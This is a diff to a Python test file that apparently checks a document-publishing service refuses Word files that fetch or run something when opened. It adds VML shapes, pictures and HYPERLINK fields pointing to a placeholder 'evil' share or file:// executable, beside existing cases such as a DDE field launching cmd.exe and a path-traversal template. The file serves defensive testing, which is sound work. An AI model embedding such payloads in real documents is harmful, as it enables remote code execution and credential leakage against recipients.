@@ -241,6 +241,12 @@ def _field(*instr_runs: str) -> str:
             f'</w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
 
 
+def _vml(shape: str) -> str:
+    """A paragraph holding a legacy VML drawing (a shape, text box or linked picture) as Word writes it."""
+    return (f'<w:p {W} xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
+            f'xmlns:r="{REL}"><w:r><w:pict>{shape}</w:pict></w:r></w:p>')
+
+
 NESTED_DDE = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
               '<w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
               '</w:r><w:r><w:instrText> c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
@@ -280,13 +286,26 @@ REMOTE, EMBEDDED, FIELD = "从网络或其他计算机取得内容", "嵌有程�
     (_relationship("attachedTemplate", "file:///C:/../../\\\\evil\\share\\t.dotm", part="word/_rels/settings.xml.rels"),
      REMOTE),
     (_relationship("attachedTemplate", "C:\\Users\\..\\..\\t.dotm", part="word/_rels/settings.xml.rels"), REMOTE),
+    # VML (s25 defects10d #4): a shape's or text box's hyperlink to a share or file://, a linked picture on a share,
+    # and a HYPERLINK field whose target stands second behind an empty first argument
+    (_body(_vml('<v:shape id="s1" style="width:90pt;height:30pt" href="\\\\evil\\share\\x.exe">'
+                '<v:textbox><w:txbxContent><w:p><w:r><w:t>点此下载</w:t></w:r></w:p></w:txbxContent></v:textbox>'
+                '</v:shape>')), REMOTE),
+    (_body(_vml('<v:rect id="s2" style="width:90pt;height:30pt" href="file://evil/share/x.exe"/>')), REMOTE),
+    (_body(_vml('<v:shape id="s3" style="width:90pt;height:30pt"><v:imagedata o:href="\\\\evil\\share\\a.png"/>'
+                '</v:shape>')), REMOTE),
+    (_body(_vml('<v:shape id="s4" style="width:90pt;height:30pt"><v:imagedata src="file://evil/share/a.png"/>'
+                '</v:shape>')), REMOTE),
+    (_body(f'<w:p {W}><w:fldSimple w:instr=\'HYPERLINK "" "\\\\evil\\x.exe"\'/></w:p>'), REMOTE),
+    (_body(_field(' HYPERLINK "" \\o "提示" "file://evil/x.exe" ')), REMOTE),
     # no DTD in a package part (no entity can be declared)
     ({"replace": {"word/document.xml": lambda b: b.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "b">]>', 1)}},
      "不是有效的 Word 文档"),
 ], ids=["follina", "settings-template", "template", "remote-image", "unc-link", "remote-frame", "ole-inside",
         "afchunk-part", "altchunk", "ddeauto", "dde-split", "includepicture", "includetext", "dde-by-quote",
         "hyperlink-field-unc", "hyperlink-field-file", "hyperlink-field-nested", "template-unc", "template-dotdot",
-        "doctype"])
+        "vml-shape-href-unc", "vml-rect-href-file", "vml-imagedata-o-href", "vml-imagedata-src",
+        "hyperlink-empty-first-unc", "hyperlink-empty-first-file", "doctype"])
 def test_a_word_file_that_fetches_or_runs_something_when_opened_is_refused(cast, parts, message):
     publish_all(cast.a, actor=OPERATOR)
     before = state()
@@ -304,7 +323,12 @@ def test_a_word_file_with_page_numbers_a_date_and_a_web_link_is_accepted(cast):
             "<w:body>" + _field(" PAGE ", " \\* MERGEFORMAT ") + _field(' DATE \\@ "yyyy年M月d日" ')
             + f'<w:p {W}><w:fldSimple w:instr=" NUMPAGES "/></w:p>'
             + _field(' HYPERLINK "https://www.gov.cn/zhengce/" \\o "国务院政策" ') + _field(' HYPERLINK \\l "第二节" ')
-            + f'<w:p {W}><w:fldSimple w:instr=\'HYPERLINK "mailto:zhengce@example.gov.cn"\'/></w:p>').encode(), 1),
+            + f'<w:p {W}><w:fldSimple w:instr=\'HYPERLINK "mailto:zhengce@example.gov.cn"\'/></w:p>'
+            # a VML shape linking to a web page, one to a place in the document, a picture by its relationship
+            + _vml('<v:shape id="s1" style="width:90pt;height:30pt" href="https://www.gov.cn/"/>'
+                   '<v:shape id="s2" style="width:90pt;height:30pt" href="#_第二节"/>'
+                   '<v:shape id="s3" style="width:90pt;height:30pt"><v:imagedata r:id="rId98" o:title=""/></v:shape>')
+            ).encode(), 1),
         "word/_rels/document.xml.rels": lambda b: b.replace(b"</Relationships>", (
             f'<Relationship Id="rId98" Type="{REL}/hyperlink" Target="https://www.gov.cn/zhengce/" '
             'TargetMode="External"/></Relationships>').encode())},
